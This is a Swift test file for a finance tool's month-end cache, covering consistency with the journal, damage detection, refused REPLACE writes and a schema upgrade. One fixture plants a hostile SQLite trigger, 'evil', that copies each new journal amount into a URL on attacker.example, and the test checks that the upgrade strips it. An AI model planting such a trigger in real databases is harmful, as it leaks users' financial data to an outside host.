import Foundation
import Testing

/// The month ends the store keeps beside the journal (what `total by month` reads): the
/// same answers as a seek of the journal for each month's last day, however the journal
/// was written (saves, dated sets, a small and a large import, rows changed and removed
/// with the sqlite3 shell); `check` comparing the two; damage to them named. The month
/// ends are derived from the journal by its triggers: a store whose month ends were
/// written by hand answers from them until `check` names them, and the next change of a
/// month's entries writes that month's row again.
@Suite struct MonthEndTests {
  let coffer = try! CofferProcess()
  var database: String { coffer.home + "/months.db" }

  init() throws {
    let outcome = try run("rates import \(CofferProcess.fixtures)/eurofxref-hist.zip")
    #expect(outcome.status == 0, "\(outcome)")
  }

  func run(_ script: String) throws -> Outcome {
    try coffer.run(["--db", database, "-c", script])
  }

  func sqlite(_ sql: String) throws -> Outcome {
    try coffer.run([database, sql], binary: "/usr/bin/sqlite3")
  }

  /// The last day of each month from January 2015 to December 2025.
  static let monthEnds: [String] = (2015...2025).flatMap { year in
    (1...12).map { month in
      let days = [31, year % 4 == 0 ? 29 : 28, 31, 30, 31, 30, 31, 31, 30, 31, 30, 31][month - 1]
      return String(format: "%04d-%02d-%02d", year, month, days)
    }
  }

  /// `total by month`'s totals, and `total_at` asked of each month end alone.
  func bothWays() throws -> (byMonth: [String], oneByOne: [String]) {
    let byMonth = try run("total by month from 2015-01-31 to 2025-12-31 --format csv")
    #expect(byMonth.status == 0, "\(byMonth)")
    let totals = byMonth.stdout.split(separator: "\n").dropFirst().map { String($0.split(separator: ",")[1]) }
    let asked = try run(Self.monthEnds.map { "print total_at(\($0))" }.joined(separator: "; "))
    #expect(asked.status == 0, "\(asked)")
    return (totals, asked.stdout.split(separator: "\n").map(String.init))
  }

  @Test func totalsByMonthAreTheTotalsOnEachMonthsLastDayHoweverTheJournalWasWritten() throws {
    var generator = SystemRandomNumberGenerator()
    let codes = ["USD", "JPY", "GBP", "CHF", "SEK"]
    // Dated sets, some on a month's last day, some twice on one day (the last counts).
    var sets: [String] = []
    for _ in 0..<300 {
      let date = Self.monthEnds.randomElement(using: &generator)!
      let day = Bool.random(using: &generator) ? date : String(date.prefix(8)) + "1\(Int.random(in: 0...9))"
      sets.append("set \(codes.randomElement(using: &generator)!) \(Int.random(in: 0...99_999)) at \(day)")
    }
    // Each currency's latest entry in 2025, which the rows changed below (all before
    // 2025) leave alone: about one run in a hundred drew none for one of them, and its
    // holding then disagreed with what was left of its journal.
    for code in codes where !sets.contains(where: { $0.hasPrefix("set \(code) ") && $0.contains(" at 2025-") }) {
      sets.append("set \(code) \(Int.random(in: 0...99_999)) at 2025-12-31")
    }
    let script = try coffer.write("sets.coffer", sets.joined(separator: "\n") + "\n")
    #expect(try coffer.run(["--db", database, script]).status == 0)
    // A small import (its rows through the trigger) and one larger than the journal (the
    // month ends built after its rows).
    var small = ["date,code,amount"]
    for month in Self.monthEnds.shuffled().prefix(40) {
      small.append("\(month.prefix(8))15,EUR,\(Int.random(in: 1...999))")
    }
    let smallFile = try coffer.write("small.csv", small.joined(separator: "\n") + "\n")
    #expect(try run("holdings import \(smallFile)").status == 0)
    var large = ["date,code,amount"]
    var day = Calendar(identifier: .gregorian).date(from: DateComponents(year: 2015, month: 1, day: 1))!
    let formatter = ISO8601DateFormatter()
    formatter.formatOptions = [.withFullDate]
    while large.count <= 12_000 {
      for code in ["AUD", "CAD", "NOK"] {
        large.append("\(formatter.string(from: day)),\(code),\(Int.random(in: 0...9_999))")
      }
      day = day.addingTimeInterval(86_400)
    }
    let imported = try run("holdings import \(try coffer.write("large.csv", large.joined(separator: "\n") + "\n"))")
    #expect(imported.status == 0, "\(imported)")
    var (byMonth, oneByOne) = try bothWays()
    #expect(byMonth.count == 132)
    #expect(byMonth == oneByOne)
    // Rows changed, removed and added with the sqlite3 shell (before 2025: each
    // currency's latest entry, which its holding agrees with, stays): the month ends follow.
    func some(_ code: String) -> String {
      "SELECT id FROM journal WHERE code = '\(code)' AND effective < 20089 ORDER BY random() LIMIT 20"
    }
    #expect(try sqlite("UPDATE journal SET new = '77777' WHERE id IN (\(some("USD")))").status == 0)
    #expect(try sqlite("DELETE FROM journal WHERE id IN (\(some("JPY")))").status == 0)
    #expect(try sqlite("UPDATE journal SET effective = effective - 40 WHERE id IN (\(some("AUD")))").status == 0)
    #expect(
      try sqlite(
        "INSERT INTO journal (entered, utc_offset, effective, code, place, old, new) "
          + "SELECT entered, utc_offset, effective + 3, code, place, new, '4242' FROM journal "
          + "WHERE code = 'GBP' AND effective < 20089 LIMIT 30"
      ).status == 0)
    (byMonth, oneByOne) = try bothWays()
    #expect(byMonth == oneByOne)
    let checked = try run("check")
    #expect(checked.status == 0, "\(checked)")
  }

  /// A save of more balances than a statement's worth of triggers pays for (10,000 or
  /// more, as a dump's replay saves) writes the month ends and holdings of its rows after
  /// them: the same answers, and `check` finds them as the triggers would have left them,
  /// with entries already there later in a holding and in the months it writes.
  @Test func aSaveOfTenThousandBalancesLeavesTheMonthEndsTheTriggersWould() throws {
    #expect(try run("set USD 1 at 2025-12-31; set JPY 2 at 2016-05-31; set CHF@bank 3 at 2020-01-15").status == 0)
    var generator = SystemRandomNumberGenerator()
    var lines: [String] = []
    var last: [String: Int] = [:]
    // About two a day from 2009 on: to about 2023.
    var day = Calendar(identifier: .gregorian).date(from: DateComponents(year: 2009, month: 1, day: 1))!
    let formatter = ISO8601DateFormatter()
    formatter.formatOptions = [.withFullDate]
    while lines.count < 10_500 {
      // Each holding on about two days in three, so that runs of one holding break.
      for holding in ["USD", "JPY", "CHF@bank"] where Int.random(in: 0...2, using: &generator) > 0 {
        let amount = Int.random(in: 0...99_999, using: &generator)
        lines.append("set \(holding) \(amount) at \(formatter.string(from: day))")
        last[holding] = amount
      }
      day = day.addingTimeInterval(86_400)
    }
    let script = try coffer.write("many.coffer", lines.joined(separator: "\n") + "\n")
    let saved = try coffer.run(["--db", database, script])
    #expect(saved.status == 0, "\(saved)")
    let (byMonth, oneByOne) = try bothWays()
    #expect(byMonth.count == 132)
    #expect(byMonth == oneByOne)
    let amounts = try run("print amount(USD) amount(JPY) amount(CHF@bank); check")
    #expect(amounts.status == 0, "\(amounts)")
    #expect(amounts.stdout.hasPrefix("1\n\(last["JPY"]!)\n\(last["CHF@bank"]!)\n"), "\(amounts)")
  }

  /// A store of schema 8 (its month ends and month cache kept by triggers of its own),
  /// with a trigger another program added: opened, it is upgraded in one step (a copy kept
  /// beside it), its rows carried over, its old triggers, views and derived tables gone,
  /// and its answers the same; the new triggers keep the month ends.
  @Test func aStoreOfSchemaEightIsUpgradedWithItsRowsAndNoneOfItsTriggers() throws {
    let old = coffer.home + "/v8.db"
    let made = try coffer.run(
      [
        old,
        OlderStores.schemaEight(
          rows: """
            INSERT INTO setting VALUES ('local', 'HKD');
            INSERT INTO journal (entered, utc_offset, effective, code, old, new) VALUES
              ('2020-03-05T10:00:00Z', 480, 18326, 'USD', '0', '10'),
              ('2020-03-20T10:00:00Z', 480, 18341, 'USD', '10', '20'),
              ('2021-07-09T10:00:00Z', 480, 18817, 'JPY', '0', '500');
            INSERT INTO holding VALUES ('USD', '20'), ('JPY', '500');
            CREATE TRIGGER evil AFTER INSERT ON journal BEGIN
              INSERT INTO rate_source (name, url, currencies) VALUES ('x' || new.id, 'http://attacker.example/?' || new.new, '');
            END;
            """),
      ], binary: "/usr/bin/sqlite3")
    #expect(made.status == 0, "\(made)")
    let answers = "print amount(USD) amount(JPY) amount_at(USD, 2020-03-10) amount_at(JPY, 2021-07-08); local"
    let opened = try coffer.run(["--db", old, "-c", answers + "; check; rates sources"])
    #expect(opened.status == 0, "\(opened)")
    #expect(opened.stdout.hasPrefix("20\n500\n10\n0\nHKD Hong Kong Dollar 港币\n"), "\(opened)")
    #expect(opened.stderr.contains("a copy as it was is kept in \(old).before-v12"), "\(opened)")
    #expect(!opened.stdout.contains("attacker"), "\(opened)")
    let objects = try coffer.run(
      [old, "SELECT type || ' ' || name FROM sqlite_master ORDER BY 1"], binary: "/usr/bin/sqlite3")
    for gone in ["evil", "journal_month_cache", "journal_month_end_insert", "journal_month_touch", "grdb_migrations"] {
      #expect(!objects.stdout.contains(gone), "\(objects)")
    }
    #expect(objects.stdout.contains("trigger journal_inserted"), "\(objects)")
    #expect(try coffer.run([old, "PRAGMA user_version"], binary: "/usr/bin/sqlite3").stdout == "12\n")
    // The new triggers keep the month ends: an entry added, one changed.
    #expect(try coffer.run(["--db", old, "-c", "set USD 25 at 2020-03-25; set JPY 600 at 2021-07-31"]).status == 0)
    let rows = try coffer.run(
      [old, "SELECT code, month, new FROM journal_month_end ORDER BY code, month"], binary: "/usr/bin/sqlite3")
    #expect(rows.stdout == "JPY||202107|600\nUSD||202003|25\n".replacingOccurrences(of: "||", with: "|"), "\(rows)")
  }

  /// SQLite removes a row that a REPLACE replaces without firing the delete trigger (with
  /// `recursive_triggers` off, as in the sqlite3 shell), so the replaced entry's month
  /// would keep it: such writes are refused, and the month ends stay the journal's.
  @Test func aWriteThatWouldReplaceAJournalRowIsRefusedAndTheMonthEndsStayRight() throws {
    #expect(try run("set USD 10 at 2020-03-05; set USD 20 at 2020-03-20; set USD 30 at 2020-12-31").status == 0)
    let columns = "id, entered, utc_offset, effective, code, place, old, new"
    let replacements = [
      // The last entry of March moved to February under its own id.
      "REPLACE INTO journal (\(columns)) SELECT \(columns.replacingOccurrences(of: "effective", with: "18302")) "
        + "FROM journal WHERE new = '20'",
      "INSERT OR REPLACE INTO journal (\(columns)) SELECT \(columns) FROM journal WHERE new = '20'",
      // March's first entry given the id of its last, which that removes, by name and
      // through the rowid's other names.
      "UPDATE OR REPLACE journal SET id = (SELECT id FROM journal WHERE new = '20') WHERE new = '10'",
      "UPDATE OR REPLACE journal SET rowid = (SELECT id FROM journal WHERE new = '20') WHERE new = '10'",
      "UPDATE OR REPLACE journal SET _rowid_ = (SELECT id FROM journal WHERE new = '20') WHERE new = '10'",
      "INSERT INTO journal (\(columns)) SELECT \(columns) FROM journal WHERE new = '30'",
      // Ids below 1, which a later REPLACE could meet unseen: refused as they are written.
      "INSERT INTO journal (\(columns)) SELECT \(columns.replacingOccurrences(of: "id,", with: "-1,")) "
        + "FROM journal WHERE new = '30'",
      "INSERT OR REPLACE INTO journal (\(columns)) SELECT \(columns.replacingOccurrences(of: "id,", with: "0,")) "
        + "FROM journal WHERE new = '30'",
      "UPDATE journal SET id = -5 WHERE new = '10'",
    ]
    let rows = "SELECT code, month, effective, id, new FROM journal_month_end WHERE code = 'USD' ORDER BY month"
    let monthEnds = try sqlite(rows).stdout
    let journal = try sqlite("SELECT * FROM journal ORDER BY id").stdout
    for replacement in replacements {
      let refused = try sqlite(replacement)
      #expect(refused.status != 0, "\(replacement)")
      #expect(
        refused.stderr.contains("a journal entry keeps its id: it is not replaced, nor given another's")
          || refused.stderr.contains("CHECK constraint failed: id > 0"), "\(refused)")
      #expect(try sqlite(rows).stdout == monthEnds)
      #expect(try sqlite("SELECT * FROM journal ORDER BY id").stdout == journal)
    }
    // A row under an id of its own (2020-03-30), written by REPLACE, is an insert as any other.
    let added =
      "REPLACE INTO journal (id, entered, utc_offset, effective, code, place, old, new) "
      + "VALUES (1000, '2024-01-01T00:00:00Z', 0, 18351, 'USD', '', '20', '40')"
    #expect(try sqlite(added).status == 0)
    #expect(try sqlite("SELECT new FROM journal_month_end WHERE code = 'USD' AND month = 202003").stdout == "40\n")
    let checked = try run("check")
    #expect(!checked.stdout.contains("journal_month_end"), "\(checked)")
  }

  @Test func checkNamesAMonthEndThatDisagreesWithTheJournalAndAReadNamesDamage() throws {
    #expect(try run("set USD 10 at 2020-03-05; set USD 20 at 2020-03-20; set USD 30 at 2020-05-02").status == 0)
    #expect(try run("check").status == 0)
    let damage = "UPDATE journal_month_end SET new = '5', id = id - 1 WHERE code = 'USD' AND month = 202003"
    #expect(try sqlite(damage).status == 0)
    let checked = try run("check")
    #expect(checked.status == 3)
    #expect(checked.stdout.contains("damaged: journal_month_end (code 'USD', month 2020-03): "), "\(checked)")
    // A value Coffer would not write is named by the series that reads it.
    let series = "total by month from 2020-01-31 to 2020-12-31"
    #expect(try sqlite("UPDATE journal_month_end SET new = '1,200' WHERE code = 'USD' AND month = 202005").status == 0)
    let read = try run(series)
    #expect(read.status == 3)
    #expect(read.stderr.contains("journal_month_end (code 'USD', month 2020-05): "), "\(read)")
    // Damage to the journal row a month end copies is named as the journal's (a change of
    // a row writes its month again).
    #expect(try sqlite("UPDATE journal SET new = 'x' WHERE new = '20'").status == 0)
    let journal = try run("total by month from 2020-01-31 to 2020-12-31")
    #expect(journal.status == 3)
    #expect(journal.stderr.contains("journal_month_end (code 'USD', month 2020-03): new 'x'"), "\(journal)")
    #expect(try run("check").stdout.contains("damaged: journal row "))
  }

  /// A month end removed or moved by hand: `check` names it, and the journal's triggers
  /// write it again at the next change of that month's entries.
  @Test func aMonthEndRemovedOrMovedByHandIsNamedByCheckAndWrittenAgain() throws {
    #expect(
      try run("set USD 5 at 2019-12-31; set USD 10 at 2020-03-05; set USD 20 at 2020-05-20; set USD 30 at 2020-08-02")
        .status == 0)
    let series = "total by month from 2020-01-31 to 2020-12-31 --format csv"
    let sound = try run(series)
    #expect(sound.status == 0, "\(sound)")
    #expect(try sqlite("DELETE FROM journal_month_end WHERE code = 'USD' AND month = 202005").status == 0)
    let deleted = try run("check")
    #expect(deleted.status == 3)
    #expect(deleted.stdout.contains("journal_month_end (code 'USD', month 2020-05)"), "\(deleted)")
    #expect(try sqlite("UPDATE journal SET new = new WHERE code = 'USD'").status == 0)
    #expect(try run(series) == sound)
    #expect(try run("check").status == 0)
    #expect(try sqlite("UPDATE journal_month_end SET month = 199913 WHERE code = 'USD' AND month = 202005").status == 0)
    let moved = try run("check")
    #expect(moved.status == 3)
    #expect(moved.stdout.contains("journal_month_end (code 'USD', month 2020-05)"), "\(moved)")
    #expect(moved.stdout.contains("journal_month_end (code 'USD', month 1999-13)"), "\(moved)")
  }

  /// The month ends' table is STRICT: a month that is not a whole number cannot be
  /// written into it at all.
  @Test func aMonthKeyThatIsNotAWholeNumberCannotBeWritten() throws {
    #expect(try run("set USD 10 at 2020-03-05; set USD 20 at 2020-05-20").status == 0)
    for month in ["'June'", "202106.5", "NULL"] {
      let copy = """
        INSERT INTO journal_month_end (code, place, month, effective, id, new)
          SELECT code, place, \(month), effective, id, new FROM journal_month_end WHERE code = 'USD' AND month = 202005
        """
      #expect(try sqlite(copy).status != 0, "\(month)")
    }
    #expect(try run("check").status == 0)
  }

  @Test func aSessionsSeriesHasTheRatesAnotherSessionImportedMeanwhile() throws {
    #expect(try run("set USD 100 at 2020-01-15; set GBP 50 at 2020-02-10").status == 0)
    let series = "total by month from 2020-01-31 to 2020-04-30 --format csv"
    let before = try run(series)
    #expect(before.status == 0, "\(before)")
    let live = try coffer.start(["--db", database])
    live.send(series)
    #expect(live.waitFor("the first series") { $0.stdout == before.stdout })
    // Another session replaces the rates of 2020-03-31: the live session's next series,
    // and its total at that date, are made of the new ones.
    let march = try coffer.write("march.csv", "date,code,rate\n2020-03-31,USD,2\n2020-03-31,GBP,0.5\n")
    #expect(try run("rates import \(march) --accept").status == 0)
    let after = try run(series + "; print total_at(2020-03-31)")
    #expect(after.status == 0 && after.stdout != before.stdout, "\(after)")
    live.send(series + "; print total_at(2020-03-31)")
    #expect(live.waitFor("the second series") { $0.stdout == before.stdout + after.stdout })
    #expect(live.finish() == 0)
  }
}
